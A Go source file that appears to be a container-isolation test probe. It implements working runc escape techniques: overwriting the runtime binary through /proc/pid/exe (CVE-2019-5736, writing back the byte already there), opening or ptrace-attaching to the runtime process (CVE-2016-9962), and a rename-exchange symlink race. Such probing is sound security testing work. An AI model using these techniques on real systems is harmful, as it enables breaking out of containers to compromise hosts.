package main

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// window is how many pids ahead a birth is looked for: a Go program uses up several for its threads.
const window = 64

// watch looks for processes as they are born, by guessing their pids, until args[1] seconds are over or /tmp/stop exists.
// args[0] is a part of the path of the runtime's own program.
func watch(args []string, strike func(pid int, runtime string) string) finding {
	seconds, _ := strconv.Atoi(args[1])
	next := os.Getpid() + 1
	born, refused, struck := 0, 0, 0
	fmt.Println("watching")
	for deadline := time.Now().Add(time.Duration(seconds) * time.Second); time.Now().Before(deadline); {
		for pid := next; pid < next+window; pid++ {
			exe, err := os.Readlink("/proc/" + strconv.Itoa(pid) + "/exe")
			switch {
			case errors.Is(err, unix.ENOENT):
				continue
			case err != nil:
				refused++
			case strings.Contains(exe, args[0]):
				struck++
				if what := strike(pid, exe); what != "" {
					return saw(escaped, "%s", what)
				}
				continue // again: it may be caught later in its life
			}
			if pid >= next {
				born, next = born+1, pid+1
			}
		}
		if _, err := os.Stat("/tmp/stop"); err == nil {
			break
		}
	}
	return saw(held, "of %d pids: %d looks refused, %d looks at the runtime, none of use", born, refused, struck)
}

// watchExe is CVE-2019-5736: keep the runtime's program open, and overwrite it once it has ended. It is overwritten
// with the byte that stands there.
func watchExe(args []string) finding {
	var kept []int
	f := watch(args, func(pid int, exe string) string {
		fd, err := unix.Open(fmt.Sprintf("/proc/%d/exe", pid), unix.O_PATH|unix.O_CLOEXEC, 0)
		switch {
		case err != nil:
		case len(kept) == 500 || !isOpen(fd, exe): // the process may run another program by now, of the container's own
			unix.Close(fd)
		default:
			kept = append(kept, fd)
		}
		return overwrite(kept, exe)
	})
	if f.verdict == escaped {
		return f
	}
	for end := time.Now().Add(300 * time.Millisecond); time.Now().Before(end); {
		if what := overwrite(kept, args[0]); what != "" {
			return saw(escaped, "%s", what)
		}
	}
	return saw(held, "%s; kept %d descriptors of it", f.seen, len(kept))
}

// isOpen tells whether a descriptor is of a file.
func isOpen(fd int, name string) bool {
	is, err := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd))
	return err == nil && is == name
}

func overwrite(kept []int, exe string) string {
	for _, fd := range kept {
		w, err := unix.Open(fmt.Sprintf("/proc/self/fd/%d", fd), unix.O_WRONLY|unix.O_CLOEXEC, 0)
		if err != nil {
			continue
		}
		_, err = unix.Pwrite(w, []byte{0x7f}, 0)
		unix.Close(w)
		if err == nil {
			return "wrote to the runtime's program " + exe
		}
	}
	return ""
}

// watchPtrace is CVE-2016-9962: stop the runtime in the container before it becomes the user's program, and use what it
// has open.
func watchPtrace(args []string) finding {
	return watch(args, func(pid int, exe string) string {
		if fd, err := unix.Open(fmt.Sprintf("/proc/%d/mem", pid), unix.O_RDWR|unix.O_CLOEXEC, 0); err == nil {
			unix.Close(fd)
			return "opened the memory of the runtime " + exe
		}
		if links, err := filepath.Glob(fmt.Sprintf("/proc/%d/fd/*", pid)); err == nil && len(links) > 0 && still(pid, exe) {
			return fmt.Sprintf("looked at %d descriptors of the runtime %s", len(links), exe)
		}
		if err := unix.PtraceSeize(pid); err == nil && still(pid, exe) {
			return "traces the runtime " + exe
		}
		return ""
	})
}

// still tells whether the process runs the same program as before.
func still(pid int, exe string) bool {
	now, err := os.Readlink(fmt.Sprintf("/proc/%d/exe", pid))
	return err == nil && now == exe
}

// swap exchanges args[0]/x, a folder, and args[0]/y, a link to args[1], as fast as it can, until args[0]/stop exists
// or args[2] seconds are over.
func swap(args []string) finding {
	dir := args[0]
	x, y := filepath.Join(dir, "x"), filepath.Join(dir, "y")
	if err := errors.Join(os.Mkdir(x, 0o777), os.Symlink(args[1], y)); err != nil {
		return saw(untried, "%v", err)
	}
	seconds, _ := strconv.Atoi(args[2])
	fmt.Println("swapping")
	swaps := 0
	for deadline := time.Now().Add(time.Duration(seconds) * time.Second); time.Now().Before(deadline); swaps++ {
		if err := unix.Renameat2(unix.AT_FDCWD, x, unix.AT_FDCWD, y, unix.RENAME_EXCHANGE); err != nil {
			return saw(untried, "exchange: %v", err)
		}
		if _, err := os.Stat(filepath.Join(dir, "stop")); err == nil {
			break
		}
	}
	return saw(held, "swapped %d times", swaps)
}
